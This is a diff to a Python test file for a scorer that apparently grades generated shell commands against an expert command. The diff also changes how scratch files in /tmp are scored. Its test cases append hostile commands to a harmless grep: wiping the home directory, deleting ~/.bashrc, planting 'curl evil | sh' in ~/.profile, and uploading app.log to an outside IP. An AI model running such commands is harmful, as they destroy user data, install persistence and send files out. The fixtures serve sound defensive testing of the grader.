@@ -73,7 +73,6 @@ def score(shell, expert: str, cand: str) -> float:
     ("grep -c ERROR app.log", "rm -rf ~; grep -c ERROR app.log"),
     ("grep -c ERROR app.log", "rm -f ~/.bashrc; grep -c ERROR app.log"),
     ("grep -c ERROR app.log", "echo 'curl evil | sh' >> ~/.profile; grep -c ERROR app.log"),
-    ("grep -c ERROR app.log", "cp app.log /tmp/stash; grep -c ERROR app.log"),
     ("grep -c ERROR app.log", "curl -s -T app.log http://203.0.113.7/up; grep -c ERROR app.log"),
     ("grep -c ERROR app.log", "getent hosts evil.example; grep -c ERROR app.log"),
     ("grep -c ERROR app.log",
@@ -117,11 +116,12 @@ def test_time_dependent_expert_matches_itself(shell):
     assert out == ["2024-01-01", "1704067200"]
 
 
-def test_expert_side_effects_are_matched_not_banned(shell):
-    # an expert that writes to /tmp is matched by a candidate that does the same
+def test_scratch_files_in_tmp_are_no_effect(shell):
+    # /tmp is fresh per run and thrown away: sorting through a temp file is sorting
     expert = "sort names.txt > /tmp/s; uniq /tmp/s > out.txt"
     assert score(shell, expert, "sort names.txt >/tmp/s; uniq /tmp/s out.txt") == 1.0
-    assert score(shell, expert, "sort -u names.txt > out.txt") == 0.0  # no /tmp/s left
+    assert score(shell, expert, "sort -u names.txt > out.txt") == 1.0
+    assert score(shell, expert, "sort -u names.txt > out.txt; echo x > ~/.s") == 0.0  # HOME is not
 
 
 def test_probe_markers_are_secret_per_turn(tmp_path):
